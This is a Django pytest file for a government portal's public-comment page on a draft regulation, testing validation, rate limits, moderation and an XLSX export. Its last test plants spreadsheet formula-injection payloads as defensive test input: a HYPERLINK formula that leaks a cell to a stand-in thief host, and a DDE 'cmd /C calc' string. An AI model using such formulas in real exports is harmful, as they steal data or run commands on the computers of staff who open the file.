"""Drafts for public comment (Decree 43/2011 Art. 10.1.i): the comment form
with its guards, moderation, the XLSX summary grouped by article and the
published responses."""

import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from congtin.legal.models import Draft, DraftComment

pytestmark = pytest.mark.django_db

OPEN = "/du-thao/quy-che-cong-thong-tin-2026/"
COMMENT = {"name": "Nguyễn Văn Bình", "email": "binh@example.com",
           "organisation": "Công ty Cổ phần Điện tử Bình Minh",
           "article": "Điều 4. Thời hạn cập nhật",
           "text": "Đề nghị quy định rõ thời hạn đối với văn bản do Ủy ban nhân dân Thành phố "
                   "ban hành.", "website": ""}


def _draft():
    return Draft.objects.get(slug="quy-che-cong-thong-tin-2026")


def test_draft_page_shows_text_period_address_and_approved_comments_only(client):
    page = client.get(OPEN).content.decode()
    assert "Điều 3. Quy trình biên tập" in page
    assert "gopy.sct@tphcm.gov.vn" in page and "163 Hai Bà Trưng" in page
    assert "Hiệp hội Doanh nghiệp cơ khí" in page  # approved
    assert "Công ty TNHH Thương mại Minh Tâm" not in page  # still pending


def test_article_choices_come_from_the_draft_headings(client):
    page = client.get(OPEN).content.decode()
    for label in ["Góp ý chung", "Điều 1. Phạm vi điều chỉnh", "Điều 6. Hiệu lực thi hành"]:
        assert f'<option value="{label}">' in page


def test_comment_is_received_and_waits_for_moderation(client):
    response = client.post(OPEN, COMMENT, REMOTE_ADDR="203.0.113.10")
    assert "Góp ý sẽ hiện trên trang sau khi được kiểm duyệt" in response.content.decode()
    comment = DraftComment.objects.get(email="binh@example.com")
    assert comment.state == DraftComment.State.PENDING and comment.article_order == 4
    assert "Bình Minh" not in client.get(OPEN).content.decode()


def test_comment_on_an_article_not_in_the_draft_is_refused(client):
    response = client.post(OPEN, {**COMMENT, "article": "Điều 99. Không có"},
                           REMOTE_ADDR="203.0.113.11")
    assert response.status_code == 400
    assert not DraftComment.objects.filter(email="binh@example.com").exists()


def test_missing_fields_and_bad_email_are_shown_on_the_form(client):
    response = client.post(OPEN, {**COMMENT, "email": "khong-phai-email", "name": ""},
                           REMOTE_ADDR="203.0.113.12")
    page = response.content.decode()
    assert response.status_code == 400 and "Góp ý chưa gửi được" in page
    assert "Nhập một địa chỉ email hợp lệ" in page or "email" in page
    assert 'value="Công ty Cổ phần Điện tử Bình Minh"' in page  # what was typed is kept


def test_legacy_encoded_vietnamese_is_stored_as_unicode(client):
    from congtin.vntext import decode_vni, encode_vni

    vni = encode_vni("Góp ý về thời hạn cập nhật").decode("cp1252")
    assert decode_vni(vni.encode("cp1252")) == "Góp ý về thời hạn cập nhật"
    client.post(OPEN, {**COMMENT, "text": vni}, REMOTE_ADDR="203.0.113.13")
    assert DraftComment.objects.get(email="binh@example.com").text == "Góp ý về thời hạn cập nhật"


def test_honeypot_filled_by_a_bot_stores_nothing(client):
    response = client.post(OPEN, {**COMMENT, "website": "http://spam.example"},
                           REMOTE_ADDR="203.0.113.14")
    assert response.status_code == 200
    assert not DraftComment.objects.filter(email="binh@example.com").exists()


def test_too_many_comments_from_one_address_are_refused(client, settings):
    settings.LEGAL_COMMENTS_PER_HOUR = 2
    for index in range(2):
        client.post(OPEN, {**COMMENT, "email": f"n{index}@example.com"}, REMOTE_ADDR="198.51.100.7")
    response = client.post(OPEN, {**COMMENT, "email": "n3@example.com"},
                           REMOTE_ADDR="198.51.100.7")
    assert response.status_code == 429
    assert "nhiều góp ý trong một giờ" in response.content.decode()
    assert not DraftComment.objects.filter(email="n3@example.com").exists()


def test_closed_draft_refuses_comments_with_a_clear_message(client):
    draft = _draft()
    draft.closes_at = timezone.now() - datetime.timedelta(minutes=1)
    draft.save()
    page = client.get(OPEN).content.decode()
    assert "Đã hết hạn góp ý" in page and "<form class=\"comment-form\"" not in page
    response = client.post(OPEN, COMMENT, REMOTE_ADDR="203.0.113.15")
    assert response.status_code == 400 and "Đã hết hạn góp ý" in response.content.decode()
    assert not DraftComment.objects.filter(email="binh@example.com").exists()


def test_moderated_comment_shows_and_wrong_role_cannot_moderate(client, login):
    client.post(OPEN, COMMENT, REMOTE_ADDR="203.0.113.16")
    comment = DraftComment.objects.get(email="binh@example.com")
    contributor = login("cb_qltm")
    contributor.post(f"/admin/van-ban/gop-y/{comment.pk}/duyet/")
    assert DraftComment.objects.get(pk=comment.pk).state == DraftComment.State.PENDING
    login("vanphong").post(f"/admin/van-ban/gop-y/{comment.pk}/duyet/")
    assert DraftComment.objects.get(pk=comment.pk).state == DraftComment.State.APPROVED
    client.logout()
    assert "Công ty Cổ phần Điện tử Bình Minh" in client.get(OPEN).content.decode()


def test_export_groups_every_comment_by_article(login):
    office = login("vanphong")
    response = office.get(f"/admin/van-ban/du-thao/{_draft().pk}/xuat/")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [tuple(cell for cell in row) for row in sheet.iter_rows(values_only=True)]
    first_column = [row[0] for row in rows]
    assert first_column.index("Góp ý chung") < first_column.index("Điều 4. Thời hạn cập nhật") \
        < first_column.index("Điều 5. Hỏi đáp trực tuyến")
    people = {row[1] for row in rows if isinstance(row[0], int)}
    assert people == {"Nguyễn Hoàng Phúc", "Trần Thị Thu Hà", "Lê Minh Tâm"}  # pending too


def test_responses_are_published_only_after_the_deadline(client, login):
    draft = _draft()
    office = login("vanphong")
    comment = draft.comments.get(name="Trần Thị Thu Hà")
    office.post(f"/admin/van-ban/gop-y/{comment.pk}/giai-trinh/",
                {"response": "Tiếp thu: bổ sung tra cứu bằng mã số tại Điều 5."})
    office.post(f"/admin/van-ban/du-thao/{draft.pk}/cong-bo/")
    assert not Draft.objects.get(pk=draft.pk).responses_published  # still open
    Draft.objects.filter(pk=draft.pk).update(closes_at=timezone.now() - datetime.timedelta(days=1))
    office.post(f"/admin/van-ban/du-thao/{draft.pk}/cong-bo/")
    client.logout()
    page = client.get(OPEN).content.decode()
    assert "Tiếp thu: bổ sung tra cứu bằng mã số tại Điều 5." in page
    sheet = load_workbook(io.BytesIO(office_export(login, draft))).active
    assert any("Tiếp thu: bổ sung tra cứu" in str(row[7]) for row in
               sheet.iter_rows(values_only=True) if len(row) > 7)


def office_export(login, draft):
    return login("phoban").get(f"/admin/van-ban/du-thao/{draft.pk}/xuat/").content


def test_unpublished_or_future_draft_is_not_found(client):
    draft = _draft()
    Draft.objects.filter(pk=draft.pk).update(opens_at=timezone.now() + datetime.timedelta(days=1))
    assert client.get(OPEN).status_code == 404
    Draft.objects.filter(pk=draft.pk).update(is_public=False)
    assert client.get(OPEN).status_code == 404


def test_citizen_text_that_looks_like_a_formula_is_exported_as_text(client, login):
    formula = '=HYPERLINK("http://ke-gian.example/?d="&B5,"Bấm để xem văn bản gốc")'
    client.post(OPEN, {**COMMENT, "name": "=1+2", "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
                       "text": formula}, REMOTE_ADDR="203.0.113.17")
    content = office_export(login, _draft())
    sheet = load_workbook(io.BytesIO(content)).active
    row = next(row for row in sheet.iter_rows() if row[3].value == "binh@example.com")
    name, organisation, text = row[1], row[2], row[5]
    assert text.value == formula and text.data_type == "s"  # shown as typed, never run
    assert name.value == "=1+2" and name.data_type == "s"
    assert organisation.value.startswith("@SUM") and organisation.data_type == "s"
    assert text.quotePrefix and name.quotePrefix  # stays text when the Office edits the cell
    assert b"<f>" not in _sheet_xml(content)


def _sheet_xml(content):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")
